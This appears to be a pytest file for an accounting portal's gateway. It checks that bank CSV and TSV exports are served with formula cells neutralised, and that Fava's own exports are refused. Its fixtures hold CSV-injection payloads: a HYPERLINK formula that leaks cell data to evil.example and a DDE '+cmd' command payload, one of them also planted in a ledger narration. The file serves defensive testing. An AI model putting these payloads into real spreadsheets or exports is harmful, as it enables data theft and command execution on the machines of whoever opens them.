"""CSV the portal sends reads as data in a spreadsheet; Fava's own exports stay refused.

A bank's export kept as a document (and a narration copied from it into the ledger) can hold
`=HYPERLINK(...)`, `+cmd`, `-2+3`, `@SUM(...)`: opened in Excel each is a formula. The
gateway neutralises every CSV it forwards, to client users and staff alike; Fava's CSV, XLSX
and ODS exports (query results, the journal) are refused to both.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pytest
from approval_support import approve
from cli_support import append_entry, commit_all
from portal_support import ANA_USER, HUAMEI_USER, Books, add_users, books_of, build_practice, login
from werkzeug.test import Client

from beanfirm.core.csvcells import FORMULA_STARTS
from beanfirm.portal.forward import table_delimiter
from beanfirm.portal.gateway import make_app
from beanfirm.portal.pool import PoolPolicy
from beanfirm.portal.site import Portal, PortalSettings

FOLDER = "documents/Equity/Opening-Balances"
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
ATTACKS = (HYPERLINK, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\tlead tab")


# A bank's export as a Chinese bank writes it: GBK, CRLF, a formula in its 摘要 column.
def _csv_text(rows: list[list[str]], end: str, delimiter: str = ",") -> str:
    buffer = io.StringIO(newline="")
    csv.writer(buffer, lineterminator=end, delimiter=delimiter).writerows(rows)
    return buffer.getvalue()


EXPORT = _csv_text(
    [["交易日期", "摘要", "金额"]]
    + [[f"2025-01-{day:02}", cell, "-12.50"] for day, cell in enumerate(ATTACKS, 1)],
    "\r\n",
).encode("gbk")
UTF8_EXPORT = ("\ufeff" + _csv_text([["日期", "摘要"], ["2025-01-02", HYPERLINK]], "\n")).encode()
PLAIN_EXPORT = b"date,amount\n2025-01-03,-12.50\n"
UNREADABLE = "=1,x\r\n".encode("utf-16-le")  # UTF-16 without its byte order mark
# The same export tab-separated, as some banks and Excel's "Text (Tab delimited)" save it.
TSV_EXPORT = _csv_text(
    [["交易日期", "摘要", "金额"]] + [["2025-01-02", cell, "-12.50"] for cell in ATTACKS[:4]],
    "\r\n",
    delimiter="\t",
).encode("gbk")


@pytest.fixture(scope="module")
def portal(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Portal]:
    root = build_practice(tmp_path_factory.mktemp("downloads") / "practice", approved=())
    folder = root / "ledgers" / "huamei" / FOLDER
    for name, data in (
        ("2025-01-31.export-gbk.csv", EXPORT),
        ("2025-01-31.export-utf8.CSV", UTF8_EXPORT),
        ("2025-01-31.plain.csv", PLAIN_EXPORT),
        ("2025-01-31.utf16.csv", UNREADABLE),
        ("2025-01-31.export.tsv", TSV_EXPORT),
    ):
        (folder / name).write_bytes(data)
    append_entry(
        root,
        "ledgers/huamei/journal/2025/01.beancount",
        f'2025-01-20 * "银行" "{HYPERLINK.replace(chr(34), chr(39))}"\n'
        "  Assets:1002-银行存款:工商银行  -1.00 CNY\n  Income:6001-主营业务收入  1.00 CNY\n",
    )
    commit_all(root, "A bank export with formulas, kept as documents")
    approve(root, "huamei")
    site = Portal(
        root, PortalSettings(state_dir=root / ".beanfirm", pool=PoolPolicy(max_workers=2))
    )
    add_users(site)
    yield site
    site.close()


def _browser(portal: Portal, email: str) -> tuple[Client, Books]:
    browser = Client(make_app(portal))
    assert login(browser, email).status_code == 303
    return browser, books_of(browser, "huamei")


@pytest.fixture(scope="module", params=[HUAMEI_USER, ANA_USER])
def reader(request: pytest.FixtureRequest, portal: Portal) -> tuple[Client, Books]:
    """A client user (the approved snapshot) and staff (the working head)."""
    return _browser(portal, request.param)


def _document(reader: tuple[Client, Books], name: str) -> tuple[int, bytes]:
    browser, books = reader
    response = browser.get(books.page(f"document/?filename=/books/{FOLDER}/{name}"))
    return response.status_code, response.get_data()


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def test_a_bank_export_with_formulas_downloads_neutralised(reader: tuple[Client, Books]) -> None:
    status, body = _document(reader, "2025-01-31.export-gbk.csv")
    assert status == 200
    text = body.decode("gbk")  # still the bank's encoding, and its line ends
    assert text.startswith("交易日期,摘要,金额\r\n")
    cells = _cells(text)
    for attack in ATTACKS:
        assert "'" + attack in cells, attack
    assert "-12.50" in cells  # numbers stay numbers
    starts = [cell for cell in cells if cell.startswith(FORMULA_STARTS) and cell != "-12.50"]
    assert starts == []


def test_a_tab_separated_export_downloads_neutralised(reader: tuple[Client, Books]) -> None:
    status, body = _document(reader, "2025-01-31.export.tsv")
    assert status == 200
    text = body.decode("gbk")
    assert text.startswith(
        "交易日期\t摘要\t金额\r\n"
    )  # still tabs, the bank's encoding and line ends
    cells = [c for row in csv.reader(io.StringIO(text, newline=""), delimiter="\t") for c in row]
    assert "-12.50" in cells  # a number stays a number
    for attack in ATTACKS[:4]:
        assert attack not in cells
        assert "'" + attack in cells


def test_a_utf8_export_keeps_its_byte_order_mark(reader: tuple[Client, Books]) -> None:
    status, body = _document(reader, "2025-01-31.export-utf8.CSV")
    assert status == 200
    assert body.startswith(b"\xef\xbb\xbf")  # Excel reads UTF-8 by it
    assert "'" + HYPERLINK in _cells(body.decode("utf-8-sig"))


def test_a_csv_with_nothing_to_neutralise_is_sent_as_it_is(reader: tuple[Client, Books]) -> None:
    assert _document(reader, "2025-01-31.plain.csv") == (200, PLAIN_EXPORT)


def test_a_csv_whose_cells_cannot_be_read_is_not_sent(reader: tuple[Client, Books]) -> None:
    status, body = _document(reader, "2025-01-31.utf16.csv")
    assert status == 502
    assert b"=\x001" not in body


@pytest.mark.parametrize(
    "rest",
    [
        "download-query/query_result.csv?query_string=SELECT narration",
        "download-query/query_result.xlsx?query_string=SELECT narration",
        "download-query/query_result.ods?query_string=SELECT narration",
        "download-journal/",
        "download-journal/?filter=HYPERLINK",
    ],
)
def test_favas_own_exports_are_refused_to_clients_and_staff(
    reader: tuple[Client, Books], rest: str
) -> None:
    browser, books = reader
    response = browser.get(books.page(rest))
    assert response.status_code == 404
    assert b"HYPERLINK" not in response.get_data()


@pytest.mark.parametrize(
    ("headers", "rest", "query", "expected"),
    [
        ([("Content-Type", "text/csv; charset=utf-8")], "/x/extension/A/b", "", ","),
        ([("Content-Type", "Application/CSV")], "/x/extension/A/b", "", ","),
        ([("Content-Type", "text/tab-separated-values")], "/x/extension/A/b", "", "\t"),
        ([], "/x/document/", "filename=/books/documents/a.TSV", "\t"),
        (
            [
                ("Content-Type", "application/octet-stream"),
                ("Content-Disposition", 'attachment; filename="rows.CSV"'),
            ],
            "/x/extension/A/b",
            "",
            ",",
        ),
        (
            [("Content-Disposition", "inline; filename*=UTF-8''%E5%AF%B9%E8%B4%A6.csv")],
            "/x/extension/A/b",
            "",
            ",",
        ),
        ([], "/x/document/", "filename=/books/documents/a.csv", ","),
        ([("Content-Type", "text/html")], "/x/journal/", "filter=a.csv", None),
        ([("Content-Type", "application/pdf")], "/x/document/", "filename=/books/a.pdf", None),
    ],
)
def test_what_counts_as_csv_or_tsv(
    headers: list[tuple[str, str]], rest: str, query: str, expected: str | None
) -> None:
    assert table_delimiter(headers, rest, query) == expected


def test_the_narration_in_the_ledger_is_there_to_plant(portal: Portal) -> None:
    """The planted narration is in the books the client reads (so its exports are the risk)."""
    browser, books = _browser(portal, HUAMEI_USER)
    journal = browser.get(books.page("api/journal")).get_data(as_text=True)
    assert "HYPERLINK" in journal
    assert Path(portal.root / "ledgers" / "huamei" / FOLDER / "2025-01-31.plain.csv").is_file()
